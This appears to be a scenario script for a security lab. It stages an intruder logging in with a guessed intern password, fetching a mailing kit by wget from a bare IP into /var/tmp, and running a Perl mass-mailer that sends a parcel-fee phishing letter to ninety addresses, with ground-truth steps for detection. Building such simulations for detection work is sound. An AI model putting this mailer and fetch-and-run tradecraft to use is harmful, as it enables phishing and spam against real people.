title="A mailing kit unpacked with a guessed login sends to a list of strangers"
what="With intern's guessed password somebody fetches a kit with wget from a bare address, unpacks it in /var/tmp, looks at the list, and starts mailer.pl with nohup: it reads addresses from list.txt and hands each a letter with another subject to /usr/sbin/sendmail -t, ninety strangers in a minute."
user=intern daemons="cron sshd"
setup() {
  mkdir -p "$base/out/kit/.m"
  for i in $(seq 1 90); do echo "person$i@example.net"; done > "$base/out/kit/.m/list.txt"
  echo '<html><body>Dear customer, your parcel waits. <a href="http://cdn.example.com/p">Pay the fee</a></body></html>' > "$base/out/kit/.m/letter.html"
  cat > "$base/out/kit/.m/mailer.pl" <<'P'
#!/usr/bin/perl
use strict;
my ($list, $letter) = @ARGV;
open my $l, '<', $letter or die; my $html = join '', <$l>;
open my $f, '<', $list or die;
while (my $to = <$f>) {
  chomp $to;
  open my $m, '|-', '/usr/sbin/sendmail -t -i -f parcel@example.org' or next;
  print $m "From: Parcel service <parcel\@example.org>\nTo: $to\nSubject: Your parcel ", int(rand 99999), "\nMIME-Version: 1.0\nContent-Type: text/html\n\n$html\n";
  close $m; select undef, undef, undef, 0.25;
}
P
  tar -C "$base/out/kit" -czf "$base/out/www/m.tgz" .m
}
act() {
  small_talk 4
  python3 "$lab/lib/type.py" -- nsenter -t "$outside_pid" -n -- ssh -tt -q -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BindAddress=203.0.113.140 -i /root/key intern@$host_ip <<'L'
w
uname -a
cat /proc/cpuinfo | head -4
cd /var/tmp
wget -q http://203.0.113.81/m.tgz
tar xzf m.tgz
rm m.tgz
cd .m
wc -l list.txt
nohup perl mailer.pl list.txt letter.html >/dev/null 2>&1 &
%sleep 2
ps x
L
  wait_log 'to=<person90@example.net>.*status=sent' 90
  small_talk 2
}
truth() {
  exec_step fetch 'wget -q http://203.0.113.81/m.tgz' 'the kit is fetched'
  exec_step start 'perl mailer.pl list.txt letter.html' 'the mailer is started'
  exec_step hand-over 'sendmail -t -i -f parcel' 'and hands letters over'
  mail_step sent 'to=<person90@example.net>.*status=sent' 'to strangers'
}
